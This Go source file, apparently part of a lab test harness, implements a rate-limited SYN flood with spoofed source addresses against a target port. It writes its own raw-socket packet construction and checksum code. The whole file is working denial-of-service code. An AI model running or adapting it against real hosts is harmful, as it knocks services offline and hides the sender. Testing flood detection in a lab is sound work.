package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

const (
	floodRate    = 250 // SYN a second
	floodSeconds = 32  // so that at least two whole windows of 10 s are full
)

// flood sends SYN packets with spoofed sources to the victim's port, bounded in number and rate. The sources are
// the upper halves of the three documentation networks, which nobody in the lab has.
func flood(ctx context.Context, _ string) error {
	socket, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("open raw socket: %w", err)
	}
	defer unix.Close(socket)
	victim := netip.MustParseAddrPort(victimAddress)
	random := rand.New(rand.NewPCG(20, 3))
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for sent := 0; sent < floodRate*floodSeconds; {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-tick.C:
		}
		for range floodRate / 50 {
			network := [][3]byte{{192, 0, 2}, {198, 51, 100}, {203, 0, 113}}[random.IntN(3)]
			source := netip.AddrFrom4([4]byte{network[0], network[1], network[2], byte(128 + random.IntN(127))})
			packet := synPacket(netip.AddrPortFrom(source, uint16(1024+random.IntN(60000))), victim, random.Uint32())
			if err := unix.Sendto(socket, packet, 0, &unix.SockaddrInet4{Addr: victim.Addr().As4()}); err != nil {
				return fmt.Errorf("send SYN: %w", err)
			}
			sent++
		}
	}
	return nil
}

// synPacket makes an IPv4 TCP SYN with an MSS option (RFC 791, RFC 9293).
func synPacket(from, to netip.AddrPort, sequence uint32) []byte {
	p := make([]byte, 44)
	p[0], p[8], p[9] = 0x45, 64, 6
	binary.BigEndian.PutUint16(p[2:], 44)
	p[6] = 0x40 // do not fragment, so the identification may be zero (RFC 6864)
	source, target := from.Addr().As4(), to.Addr().As4()
	copy(p[12:], source[:])
	copy(p[16:], target[:])
	binary.BigEndian.PutUint16(p[10:], checksum(p[:20], 0))
	t := p[20:]
	binary.BigEndian.PutUint16(t[0:], from.Port())
	binary.BigEndian.PutUint16(t[2:], to.Port())
	binary.BigEndian.PutUint32(t[4:], sequence)
	t[12], t[13] = 6<<4, 2 // 24 octets of header; SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	copy(t[20:], []byte{2, 4, 0x05, 0xb4}) // MSS 1460
	pseudo := uint32(6 + len(t))
	for _, a := range [][4]byte{source, target} {
		pseudo += uint32(binary.BigEndian.Uint16(a[:2])) + uint32(binary.BigEndian.Uint16(a[2:]))
	}
	binary.BigEndian.PutUint16(t[16:], checksum(t, pseudo))
	return p
}

// checksum is the internet checksum (RFC 1071) of an even number of octets, added to sum.
func checksum(b []byte, sum uint32) uint16 {
	for ; len(b) >= 2; b = b[2:] {
		sum += uint32(binary.BigEndian.Uint16(b))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
